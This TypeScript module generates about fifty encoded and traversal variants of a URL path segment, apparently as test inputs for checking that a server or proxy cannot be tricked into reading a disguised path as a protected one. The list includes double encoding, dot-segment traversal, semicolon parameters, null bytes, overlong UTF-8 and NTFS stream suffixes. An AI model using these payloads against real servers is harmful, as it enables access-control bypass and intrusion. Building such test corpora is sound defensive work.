// Paths that some server reads as `/name`, or as what is below it, for whoever must not be led around by one.

/** `name`: one segment whose first character is not a capital letter. */
export const disguises = (name: string): string[] => {
  const first = name.charCodeAt(0).toString(16);
  const rest = name.slice(1);
  const encoded = `%${first}${rest}`;
  return [
    `/${name}`,
    `/${name.toUpperCase()}/`,
    `//${name}`,
    `/${encoded}`,
    `/%25${first}${rest}`,
    `/%25%${first.charCodeAt(0).toString(16)}%${first.charCodeAt(1).toString(16)}${rest}`,
    `/%252525${first}${rest}`,
    `/%2F${name}`,
    `/x/../${name}`,
    `/./${name}`,
    `/%2e/${name}`,
    `/x/%2e%2E/${name}`,
    `/x/.%2e/${name}`,
    `/x%2f..%2f${name}`,
    `/x/..%2f${name}`,
    `/x%252f%252e%252e%252f${name}`,
    `/x//../../${name}`,
    `/x/..;/${name}`,
    `/x/..;y=1/${name}`,
    `/x/..%3b/${name}`,
    `/${name};y`,
    `/${name}%3Fy`,
    `/${name}%23y`,
    `/${name}%00y`,
    `/${name}.`,
    `/${name}%20`,
    `/${name}::$INDEX_ALLOCATION`,
    `/x/..%20/${name}`,
    `/x/.../${name}`,
    `/x\\..\\${name}`,
    `/x%5c..%5C${name}`,
    `/\\${name}`,
    `/%c0%ae/${name}`,
    `/x/%c0%ae%c0%ae%c0%af${name}`,
    `/x/%e0%80%ae%e0%80%ae/${name}`,
    `/x/%u002e%u002e/${name}`,
    `/x/%ef%bc%8e%ef%bc%8e/${name}`,
    // Parameters go before the encoding.
    `/;%2fx/${encoded}`,
    `/;%5cx/${encoded}`,
    `/x;%2fy/%2e%2e/${name}`,
    `/x;%2f..%2fy/..;%2f/${encoded}`,
    `/;%252fx/%25${first}${rest}`,
    // After it, and once more.
    `/%3b%252fx/${encoded}`,
    `/;x%2f..%2f${encoded}`,
    // Dots go before the encoding.
    `/../${encoded}%2f..`,
    `/x%2fy/../${encoded}`,
    `/x/%2e%2e/${encoded}%2f%2e%2e`,
    // Slashes stay encoded, and all else does not.
    `/x%2fy/%252e%252e/${encoded}`,
    // Names are trimmed before dots go, and after.
    `/x/y%2e%20/..%20/..;/${name}%20`,
    // A first pass makes the escape that a second one takes off.
    `/x/%%32%65%%32%65/${name}`,
  ];
};
